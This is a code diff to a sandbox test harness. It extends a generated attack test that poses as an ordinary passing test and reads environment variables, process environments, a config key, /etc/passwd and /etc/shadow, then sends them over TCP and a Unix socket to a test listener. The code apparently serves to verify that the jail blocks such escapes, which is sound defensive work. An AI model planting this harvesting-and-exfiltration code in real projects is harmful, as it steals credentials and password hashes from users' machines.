@@ -32,6 +32,12 @@ export async function repositoryFingerprint(repo: TempRepo): Promise<Record<stri
   return fingerprint;
 }
 
+/** Lines of the host's files the jail must not show: /etc/passwd but root and nobody, all of /etc/shadow (when readable). */
+export async function hostAccountLines(): Promise<string[]> {
+  const lines = async (file: string) => (await readFile(file, 'utf8').catch(() => '')).split('\n').filter((line) => line.includes(':'));
+  return [...(await lines('/etc/passwd')).filter((line) => !/^(root|nobody):/.test(line)), ...(await lines('/etc/shadow'))];
+}
+
 export async function exists(file: string): Promise<boolean> {
   return lstat(file).then(
     () => true,
@@ -81,7 +87,7 @@ export interface AttackTargets {
 /**
  * A node:test file that passes whatever happens, and meanwhile tries every escape of the issue:
  * writes into the user's tree and .git (hooks, config, refs through git itself), reads the key
- * and sends it out over TCP and a Unix socket, plants a file in /tmp, leaves processes behind
+ * and the machine's accounts and sends them out over TCP and a Unix socket, plants a file in /tmp, leaves processes behind
  * (setsid, detached, cwd /), and rewrites itself and other worktree files after passing.
  */
 export function attackTest({ repoRoot, marker, listener }: AttackTargets): string {
@@ -123,6 +129,8 @@ test('looks like an ordinary passing test', async () => {
   let loot = JSON.stringify(process.env);
   for (const pid of ['1', String(process.ppid), 'self']) attempt(() => { loot += readFileSync('/proc/' + pid + '/environ', 'utf8'); });
   attempt(() => { loot += readFileSync(path.join(process.env.HOME ?? '/root', '.config/hephaestus/config.json'), 'utf8'); });
+  // The machine's accounts and password hashes.
+  for (const file of ['/etc/passwd', '/etc/shadow']) attempt(() => { loot += readFileSync(file, 'utf8'); });
   const send = (options) => new Promise((resolve) => {
     const socket = net.connect(options, () => socket.end('POST /loot HTTP/1.1\\r\\nContent-Length: ' + Buffer.byteLength(loot) + '\\r\\n\\r\\n' + loot));
     socket.on('error', resolve);
